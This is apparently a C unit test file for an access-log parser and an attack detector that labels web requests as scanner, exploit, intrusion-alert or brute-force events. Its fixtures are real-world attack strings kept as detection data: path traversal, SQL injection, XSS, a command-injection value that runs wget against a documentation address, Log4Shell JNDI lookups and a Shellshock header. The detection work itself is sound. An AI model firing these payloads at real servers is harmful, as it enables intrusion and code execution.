/* Access logs: what is read of a line, which requests are events, and that no client moves the source. */
#include "real.h"

#include "base/map.h"
#include "line/combined.h"

static const struct stamp_options utc = {.until = INSTANT_NONE};
static struct reader reader;

static enum reason read_line(struct text line, struct observation *out) {
    reader_start(&reader, format_find(TEXT("combined")), NULL, &utc, (struct chain){0}, (struct text){0});
    return reader_line(&reader, line, out);
}

#define START "192.0.2.17 - - [17/May/2015:10:05:03 +0000] "
#define AGENT " 292 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0\""

static void lines_have_a_form(void **state) {
    (void)state;
    static const struct {
        struct text line;
        enum reason reason;
    } rows[] = {
        {TEXT(START "\"GET /a HTTP/1.1\" 200" AGENT), REASON_RULE},
        {TEXT(START "\"GET /a HTTP/1.1\" 200 292"), REASON_RULE},
        {TEXT(START "\"GET /a HTTP/1.1\" 304 -"), REASON_RULE},
        {TEXT(START "\"GET /a HTTP/1.1\" 200" AGENT " 0.003 \"more\""), REASON_RULE},
        {TEXT(START "\"-\" 408 - \"-\" \"-\""), REASON_RULE},
        {TEXT(START "\"\" 400 0"), REASON_RULE},
        {TEXT("192.0.2.17 - a b [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_RULE},
        {TEXT("192.0.2.17 - a [17/May/2015:10:05:03] \"GET /a HTTP/1.1\" 200 292"), REASON_RULE},
        {TEXT("2001:db8::17 - - [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_RULE},
        {TEXT(START "\"GET /a HTTP/1.1"), REASON_QUOTE},
        {TEXT(START "\"GET /a HTTP/1.1\\\" 200 292"), REASON_QUOTE},
        {TEXT(START "\"GET /a HTTP/1.1\" 200 292 \"-\" \"Mozilla"), REASON_QUOTE},
        {TEXT(START "\"GET /a HTTP/1.1\" 200 292 \"-"), REASON_QUOTE},
        {TEXT(START "\"GET /a HTTP/1.1\""), REASON_FORM},
        {TEXT(START "\"GET /a HTTP/1.1\" 20 292"), REASON_FORM},
        {TEXT(START "\"GET /a HTTP/1.1\" 200 29x"), REASON_FORM},
        {TEXT(START), REASON_FORM},
        {TEXT("192.0.2.17 - - [17/May/2015] \"GET /a HTTP/1.1\" 200 292"), REASON_FORM},
        {TEXT("192.0.2.17 - - [31/Feb/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_STAMP},
        {TEXT("192.0.2.17 - - [17/May/2015:10:05:03 0000x] \"GET /a HTTP/1.1\" 200 292"), REASON_STAMP},
        {TEXT("host.example - - [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_NAME},
        {TEXT("192.0.2.256 - - [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_ADDRESS},
        {TEXT("- - - [17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_ADDRESS},
        {TEXT("[17/May/2015:10:05:03 +0000] \"GET /a HTTP/1.1\" 200 292"), REASON_FORM},
        {TEXT(START "\"GET /\0 HTTP/1.1\" 200 292"), REASON_NUL},
        {TEXT("\""), REASON_FORM},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct observation o;
        enum reason reason = read_line(rows[i].line, &o);
        if (reason != rows[i].reason) broken("%.*s: %s", TEXT_ARG(rows[i].line), reasons[reason].name);
    }
}

static void a_client_does_not_move_the_source(void **state) {
    (void)state;
    const struct text rows[] = {
        TEXT("192.0.2.17 - x [17/May/2015:10:05:02 +0000] [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1"),
        TEXT(START
             "\"192.0.2.1 - - [17/May/2016:10:05:03 +0000] \\\"GET / HTTP/1.1\\\" 200 1\" 400 1 \"192.0.2.1\" \"-\""),
        TEXT("192.0.2.17 192.0.2.1 192.0.2.1 [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 1"),
    };
    instant at;
    assert_true(instant_read(TEXT("2015-05-17T10:05:03Z"), &at));
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct observation o;
        struct ip source;
        assert_int_equal(read_line(rows[i], &o), REASON_RULE);
        assert_true(ip_read(TEXT("192.0.2.17"), &source));
        assert_int_equal(o.known, KNOWN_SRC);
        assert_int_equal(ip_compare(o.src, source), 0);
        assert_int_equal(o.first, at);
        assert_int_equal(o.last, at);
        assert_true(text_is(o.protocol, "tcp"));
    }
}

/* NULL: no rule. */
static const struct {
    const char *event, *line, *agent;
    unsigned status;
} requests[] = {
    {NULL, "GET / HTTP/1.1", "Mozilla/5.0", 200},
    {NULL, "GET /a/../b?c=%20d HTTP/1.1", "Mozilla/5.0", 200},
    {NULL, "GET /o'reilly?q=this+and+that+or+1+more HTTP/1.1", "Mozilla/5.0 (compatible; Googlebot/2.1)", 404},
    {NULL, "GET /missing.html HTTP/1.1", "Mozilla/5.0", 404},
    {NULL, "GET /wp-login.php HTTP/1.1", "Mozilla/5.0", 200},
    {NULL, "GET /list?next=/wp-login.php HTTP/1.1", "Mozilla/5.0", 404},
    {NULL, "GET /blog/select-your-union HTTP/1.1", "Mozilla/5.0", 200},
    {NULL, "GET /100%25 HTTP/1.1", "Mozilla/5.0", 200},
    {NULL, "GET /%", "Mozilla/5.0", 200},
    {NULL, "GET /%zz%4", "Mozilla/5.0", 200},
    {NULL, "", "", 400},
    {"scanner", "GET /wp-login.php HTTP/1.1", "Mozilla/5.0", 404},
    {"scanner", "GET //blog/WP-admin/ HTTP/1.1", "-", 403},
    {"scanner", "GET /%70hpmyadmin/index.php HTTP/1.1", "-", 404},
    {"scanner", "GET /.env HTTP/1.1", "Mozilla/5.0", 404},
    {"scanner", "GET /.git/config HTTP/1.1", "Mozilla/5.0", 200},
    {"scanner", "GET / HTTP/1.1", "Mozilla/5.0 zgrab/0.x", 200},
    {"scanner", "GET / HTTP/1.1", "Mozilla/5.00 (Nikto/2.1.6)", 404},
    {"scanner", "GET / HTTP/1.1", "sqlmap/1.7 (https://sqlmap.org)", 200},
    {"scanner", "\\x16\\x03\\x01\\x02", "-", 400},
    {"scanner", "SSH-2.0-Go", "-", 400},
    {"scanner", "CONNECT mail.example:25 HTTP/1.1", "-", 405},
    {"exploit", "GET /static/../../../../etc/hosts HTTP/1.1", "-", 400},
    {"exploit", "GET /static/%2e%2e/%2e%2e/x HTTP/1.1", "-", 404},
    {"exploit", "GET /static/%252e%252e/%252e%252e/x HTTP/1.1", "-", 404},
    {"exploit", "GET /get?file=/etc/passwd HTTP/1.1", "-", 200},
    {"exploit", "GET /list?id=1+UNION+SELECT+a,b HTTP/1.1", "-", 200},
    {"exploit", "GET /list?id=1%27%20or%20%271%27=%271 HTTP/1.1", "-", 200},
    {"exploit", "GET /list?id=%3Cscript%3Ealert(1) HTTP/1.1", "-", 200},
    {"exploit", "GET /ping?host=a;wget%20http://192.0.2.1/x HTTP/1.1", "-", 200},
    {"ids-alert", "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1", "-", 200},
    {"ids-alert", "GET / HTTP/1.1", "${jndi:ldap://192.0.2.1/a}", 200},
    {"ids-alert", "GET /cgi-bin/status HTTP/1.1", "() { :;}; /bin/id", 404},
    {"ids-alert", "POST /cgi-bin/php?%2D%64+allow_url_include%3Don HTTP/1.1", "-", 404},
    {"ids-alert", "GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1", "-", 404},
    {"ids-alert", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "-", 404},
};

static void check_request(const struct visit_search *search, size_t i) {
    char scratch[4096];
    struct visit q = {.user = TEXT("-"),
                      .line = text_of(requests[i].line),
                      .status = requests[i].status,
                      .referer = TEXT("-"),
                      .agent = text_of(requests[i].agent)};
    const char *event = visit_event(search, &q, scratch, sizeof scratch);
    bool same = event && requests[i].event ? !strcmp(event, requests[i].event) : event == requests[i].event;
    if (!same) broken("%s: %s, by %s", requests[i].line, event ? event : "no event", search->sift->name);
}

static void requests_are_events_by_rules(void **state) {
    (void)state;
    struct visit_search search;
    for (size_t k = 0; k < sift_count; k++) {
        if (!sifts[k].supported()) continue;
        visit_search_start(&search, &sifts[k]);
        for (size_t i = 0; i < COUNT(requests); i++) check_request(&search, i);
    }
}

static void a_refused_login_names_a_user(void **state) {
    (void)state;
    char scratch[64];
    struct visit_search search;
    visit_search_start(&search, sift_best());
    struct visit q = {.user = TEXT("-"), .line = TEXT("GET /private HTTP/1.1"), .status = 401};
    assert_null(visit_event(&search, &q, scratch, sizeof scratch));
    q.user = TEXT("admin");
    assert_string_equal(visit_event(&search, &q, scratch, sizeof scratch), "brute-force");
    q.status = 200;
    assert_null(visit_event(&search, &q, scratch, sizeof scratch));
}

static void long_requests_are_decoded_as_far_as_there_is_room(void **state) {
    (void)state;
    static char line[LINE_BYTES_MAX];
    char scratch[64];
    struct visit_search search;
    visit_search_start(&search, sift_best());
    for (size_t i = 0; i < sizeof line; i++) line[i] = "%2e/"[i % 4];
    struct visit q = {.line = {line, sizeof line}, .status = 404};
    assert_null(visit_event(&search, &q, scratch, sizeof scratch));
    for (size_t i = 0; i < sizeof line; i++) line[i] = "%2e%2e/"[i % 7];
    assert_string_equal(visit_event(&search, &q, scratch, sizeof scratch), "exploit");
}

static void real_lines_are_counted_as_they_were(void **state) {
    (void)state;
    struct arena a = {0};
    struct text log = real_file("weblogs/apache_logs", &a), line;
    struct map hosts = {.arena = &a};
    uint64_t number = 0, counts[REASON_COUNT] = {0};
    instant from = INT64_MAX, until = INSTANT_NONE;
    char text[INSTANT_TEXT_MAX];
    while (text_line(&log, &line)) {
        struct observation o;
        enum reason reason = read_line(line, &o);
        counts[reason]++;
        if (++number == 8899) assert_int_equal(reason, REASON_QUOTE);
        if (!(o.known & KNOWN_SRC)) continue;
        map_put(&hosts, arena_text(&a, (struct text){(const char *)o.src.at, sizeof o.src.at}));
        if (o.first < from) from = o.first;
        if (o.first > until) until = o.first;
    }
    assert_int_equal(number, 10000);
    assert_int_equal(hosts.count, 1753);
    assert_int_equal(counts[REASON_QUOTE], 1);
    assert_int_equal(counts[REASON_FACT] + counts[REASON_RULE], 9999);
    assert_true(text_is(instant_write(from, text), "2015-05-17T10:05:00Z"));
    assert_true(text_is(instant_write(until, text), "2015-05-20T21:05:59Z"));
    print_message("%u of 10,000 requests are events\n", (unsigned)counts[REASON_FACT]);
    assert_in_range(counts[REASON_FACT], 30, 120); /* of 213 that were not found */
    arena_free(&a);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_have_a_form),
        cmocka_unit_test(a_client_does_not_move_the_source),
        cmocka_unit_test(requests_are_events_by_rules),
        cmocka_unit_test(a_refused_login_names_a_user),
        cmocka_unit_test(long_requests_are_decoded_as_far_as_there_is_room),
        cmocka_unit_test(real_lines_are_counted_as_they_were),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
